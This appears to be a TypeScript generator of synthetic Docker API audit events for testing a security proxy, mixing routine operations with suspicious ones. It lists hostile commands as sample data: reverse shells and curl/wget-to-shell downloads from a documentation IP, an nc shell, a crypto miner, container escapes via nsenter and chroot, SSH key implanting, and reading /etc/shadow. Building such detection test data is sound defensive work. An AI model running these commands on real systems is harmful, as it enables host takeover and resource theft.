/**
 * Synthetic Docker Engine API audit events (~1.2 KB of JSON each), nested as the
 * proxy/authz adapters emit them: request.*, client.*, container.*, exec.*,
 * response.*. Mostly routine traffic (list, inspect, logs, create/start of
 * ordinary images by CI and operators); a `suspiciousRate` share of privileged
 * containers, host mounts, shells in exec, miners, pulls from odd registries and
 * API calls from outside the internal networks.
 */
import type { Rng } from './harness';

const IMAGES = [
  'nginx:1.25-alpine',
  'postgres:16.4',
  'redis:7.2',
  'node:20-bookworm-slim',
  'python:3.12-slim',
  'registry.acme.local/billing/api:2026.11.3',
  'registry.acme.local/billing/worker:2026.11.3',
  'registry.acme.local/platform/gateway:1.42.0',
  'grafana/grafana:11.2.0',
  'prom/prometheus:v2.54.1',
  'busybox:1.36',
  'golang:1.23',
  'registry.acme.local/ci/builder:54',
  'traefik:v3.1',
  'rabbitmq:3.13-management',
];
const CMDS: Record<string, string> = {
  nginx: "nginx -g 'daemon off;'",
  postgres: 'docker-entrypoint.sh postgres -c shared_buffers=256MB',
  redis: 'redis-server --appendonly yes',
  node: 'node dist/server.js',
  python: 'python -m app.worker --concurrency 4',
  api: '/app/bin/api --config /etc/billing/api.yaml',
  worker: '/app/bin/worker --queue invoices',
  gateway: '/gateway serve --listen :8443',
  grafana: '/run.sh',
  prometheus: '/bin/prometheus --config.file=/etc/prometheus/prometheus.yml --storage.tsdb.path=/prometheus',
  busybox: 'sh -c "sleep 3600"',
  golang: 'go test ./...',
  builder: '/usr/local/bin/ci-run --job 88123',
  traefik: 'traefik --providers.docker=true',
  rabbitmq: 'rabbitmq-server',
};
const BINDS = [
  '/srv/www:/usr/share/nginx/html:ro',
  '/srv/pg/data:/var/lib/postgresql/data',
  'redis-data:/data',
  '/srv/app/config:/etc/billing:ro',
  '/var/log/app:/var/log/app',
  'grafana-storage:/var/lib/grafana',
  '/srv/prometheus/prometheus.yml:/etc/prometheus/prometheus.yml:ro',
  'ci-cache:/cache',
];
const INTERNAL_AGENTS = [
  'Docker-Client/20.10.24 (linux)',
  'Docker-Client/24.0.7 (linux)',
  'docker/24.0.7 go/go1.20.10 git-commit/311b9ff kernel/6.1.0-26-amd64 os/linux arch/amd64 UpstreamClient(Docker-Client/24.0.7 \\(linux\\))',
  'docker-compose/1.29.2 docker-py/5.0.3 Linux/6.1.0-26-amd64',
  'Go-http-client/1.1',
  'portainer/2.21.1',
];
const OPERATORS = ['ci-runner', 'deploy', 'alice', 'bob', 'monitoring', 'portainer'];

const SUSP_IMAGES = [
  'xmrig/xmrig:latest',
  'kinsing/kdevtmpfsi',
  'alpine/socat',
  'ubuntu:latest',
  'samba/ubuntu-miner',
  '45.9.148.35:5000/tools/scan',
];
const SUSP_CMDS = [
  'bash -c "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1"',
  'sh -c "curl -s http://198.51.100.23/k.sh | sh"',
  'sh -c "wget -q -O- http://198.51.100.23/m | bash"',
  'chroot /host bash',
  'nc -e /bin/sh 198.51.100.23 4444',
  'xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 4AbC --donate-level=1',
  'nsenter --target 1 --mount --uts --ipc --net --pid -- bash',
  'sh -c "echo c3NoLXJzYSBBQUFB | base64 -d >> /host/root/.ssh/authorized_keys"',
];
const SUSP_BINDS = [
  '/:/host',
  '/var/run/docker.sock:/var/run/docker.sock',
  '/etc:/host-etc',
  '/root:/mnt/root',
  '/proc:/host/proc',
];
const SUSP_CAPS = ['SYS_ADMIN', 'SYS_PTRACE', 'SYS_MODULE', 'NET_ADMIN', 'ALL', 'DAC_READ_SEARCH'];
const EXTERNAL_AGENTS = [
  'python-requests/2.31.0',
  'curl/8.5.0',
  'Go-http-client/1.1',
  'masscan/1.3',
  'Mozilla/5.0 zgrab/0.x',
];

type Ev = Record<string, unknown>;

function imageCmd(image: string): string {
  const base = (image.split('/').pop() as string).split(':')[0] as string;
  return CMDS[base] ?? 'sh';
}

export function dockerEvents(rng: Rng, count: number, suspiciousRate: number): Ev[] {
  const out: Ev[] = [];
  const hosts = ['docker-01.acme.local', 'docker-02.acme.local', 'docker-03.acme.local', 'ci-runner-07.acme.local'];
  for (let i = 0; i < count; i++) {
    const suspicious = rng.chance(suspiciousRate);
    const op = suspicious
      ? rng.weighted([
          [5, 'create'],
          [3, 'exec'],
          [2, 'pull'],
          [1, 'info'],
          [1, 'secrets'],
          [1, 'export'],
        ] as const)
      : rng.weighted([
          [30, 'list'],
          [20, 'inspect'],
          [12, 'logs'],
          [8, 'create'],
          [8, 'start'],
          [4, 'stop'],
          [4, 'images'],
          [3, 'ping'],
          [3, 'version'],
          [3, 'exec'],
          [2, 'pull'],
          [2, 'delete'],
          [1, 'info'],
          [1, 'networks'],
          [1, 'volumes'],
        ] as const);
    const cid = rng.hex(64);
    const image = suspicious && rng.chance(0.5) ? rng.pick(SUSP_IMAGES) : rng.pick(IMAGES);
    const name = `${(image.split('/').pop() as string).split(':')[0]}-${rng.int(1, 40)}`;
    const api = rng.pick(['v1.41', 'v1.43', 'v1.44']);
    const external = suspicious && rng.chance(0.4);
    const user = external ? '' : rng.pick(OPERATORS);
    let method = 'GET';
    let endpoint: string;
    let query: Record<string, string> = {};
    let status = 200;
    let container: Ev | undefined = { id: cid, name, image };
    let exec: Ev | undefined;
    switch (op) {
      case 'list':
        endpoint = '/containers/json';
        query = rng.chance(0.3) ? { all: '1' } : { filters: '{"label":["com.acme.stack=billing"]}' };
        container = undefined;
        break;
      case 'inspect':
        endpoint = `/containers/${cid.slice(0, 12)}/json`;
        break;
      case 'logs':
        endpoint = `/containers/${cid.slice(0, 12)}/logs`;
        query = { stdout: '1', stderr: '1', tail: String(rng.pick([50, 100, 500])), timestamps: '0' };
        break;
      case 'create': {
        method = 'POST';
        endpoint = '/containers/create';
        query = { name };
        status = 201;
        const susp = suspicious;
        container = {
          id: cid,
          name,
          image,
          cmd_line: susp && rng.chance(0.6) ? rng.pick(SUSP_CMDS) : imageCmd(image),
          entrypoint: '',
          user: susp ? rng.pick(['root', '0', '']) : rng.pick(['', '1000:1000', 'node', 'postgres']),
          working_dir: rng.pick(['', '/app', '/srv']),
          privileged: susp && rng.chance(0.5),
          cap_add: susp && rng.chance(0.5) ? [rng.pick(SUSP_CAPS)] : rng.chance(0.1) ? ['NET_BIND_SERVICE'] : [],
          cap_drop: rng.chance(0.3) ? ['ALL'] : [],
          binds: susp && rng.chance(0.5) ? [rng.pick(SUSP_BINDS)] : rng.chance(0.6) ? [rng.pick(BINDS)] : [],
          network_mode: susp && rng.chance(0.3) ? 'host' : rng.pick(['bridge', 'billing_default', 'default']),
          pid_mode: susp && rng.chance(0.3) ? 'host' : '',
          ipc_mode: rng.pick(['private', 'shareable', '']),
          security_opt:
            susp && rng.chance(0.3)
              ? ['seccomp=unconfined', 'apparmor=unconfined']
              : rng.chance(0.2)
                ? ['no-new-privileges:true']
                : [],
          devices: susp && rng.chance(0.2) ? ['/dev/sda:/dev/sda:rwm'] : [],
          env_count: rng.int(0, 25),
          restart_policy: rng.pick(['no', 'unless-stopped', 'always', 'on-failure']),
          memory: rng.pick([0, 268435456, 536870912, 1073741824]),
          labels: {
            'com.acme.stack': rng.pick(['billing', 'platform', 'observability', 'ci']),
            'com.acme.owner': rng.pick(['team-billing', 'team-platform', 'team-sre']),
          },
        };
        break;
      }
      case 'start':
        method = 'POST';
        endpoint = `/containers/${cid.slice(0, 12)}/start`;
        status = 204;
        break;
      case 'stop':
        method = 'POST';
        endpoint = `/containers/${cid.slice(0, 12)}/stop`;
        query = { t: '10' };
        status = 204;
        break;
      case 'delete':
        method = 'DELETE';
        endpoint = `/containers/${cid.slice(0, 12)}`;
        query = rng.chance(0.3) ? { force: '1', v: '1' } : {};
        status = 204;
        break;
      case 'exec': {
        method = 'POST';
        endpoint = `/containers/${cid.slice(0, 12)}/exec`;
        status = 201;
        const susp = suspicious;
        exec = {
          id: rng.hex(64),
          cmd_line: susp
            ? rng.pick(['/bin/sh', 'bash', 'sh -c "cat /etc/shadow"', 'bash -i', ...SUSP_CMDS])
            : rng.pick(['ps aux', 'pg_isready -U postgres', 'redis-cli ping', 'cat /app/VERSION', 'nginx -t']),
          user: susp ? 'root' : rng.pick(['', 'postgres', 'app']),
          privileged: susp && rng.chance(0.3),
          tty: susp,
          attach_stdin: susp,
        };
        break;
      }
      case 'pull':
        method = 'POST';
        endpoint = '/images/create';
        query = { fromImage: suspicious ? rng.pick(SUSP_IMAGES) : image, tag: 'latest' };
        container = undefined;
        break;
      case 'images':
        endpoint = '/images/json';
        container = undefined;
        break;
      case 'ping':
        endpoint = '/_ping';
        container = undefined;
        break;
      case 'version':
        endpoint = '/version';
        container = undefined;
        break;
      case 'info':
        endpoint = '/info';
        container = undefined;
        break;
      case 'networks':
        endpoint = '/networks';
        container = undefined;
        break;
      case 'volumes':
        endpoint = '/volumes';
        container = undefined;
        break;
      case 'secrets':
        endpoint = '/secrets';
        container = undefined;
        break;
      case 'export':
        endpoint = `/containers/${cid.slice(0, 12)}/export`;
        break;
    }
    const qs = Object.entries(query)
      .map(([k, v]) => `${k}=${encodeURIComponent(v)}`)
      .join('&');
    const agent = external ? rng.pick(EXTERNAL_AGENTS) : rng.pick(INTERNAL_AGENTS);
    const ev: Ev = {
      '@timestamp': rng.isoTime(),
      event: {
        id: rng.uuid(),
        kind: 'event',
        dataset: 'docker.api',
        action: `${method} ${endpoint}`,
        outcome: status < 400 ? 'success' : 'failure',
        duration_ms: rng.int(1, 400),
      },
      host: {
        name: rng.pick(hosts),
        ip: rng.ipv4('10.20.0'),
        os: 'Debian GNU/Linux 12 (bookworm)',
        kernel: '6.1.0-26-amd64',
        engine_version: '20.10.24',
        api_version: api.slice(1),
      },
      client: {
        ip: external ? rng.ipv4() : rng.ipv4(rng.pick(['10.20.3', '10.20.4', '10.30.1', '172.18.0'])),
        port: rng.int(30000, 65000),
        user_agent: agent,
        user,
        auth_method: external ? 'none' : 'TLS',
        cert_subject: external ? '' : `CN=${user},OU=ops,O=ACME`,
      },
      request: {
        method,
        endpoint,
        uri: `/${api}${endpoint}${qs ? `?${qs}` : ''}`,
        query,
        api_version: api.slice(1),
        content_type: method === 'GET' ? '' : 'application/json',
        content_length: method === 'POST' ? rng.int(2, 4000) : 0,
        headers: { Host: 'docker', 'User-Agent': agent, 'X-Request-Id': rng.uuid(), Accept: 'application/json' },
      },
      response: { status_code: status, content_length: rng.int(0, 20000) },
      proxy: { instance: `dockguard-proxy-${rng.int(1, 3)}`, version: '0.1.0', mode: 'proxy' },
    };
    if (container) ev['container'] = container;
    if (exec) ev['exec'] = exec;
    out.push(ev);
  }
  return out;
}
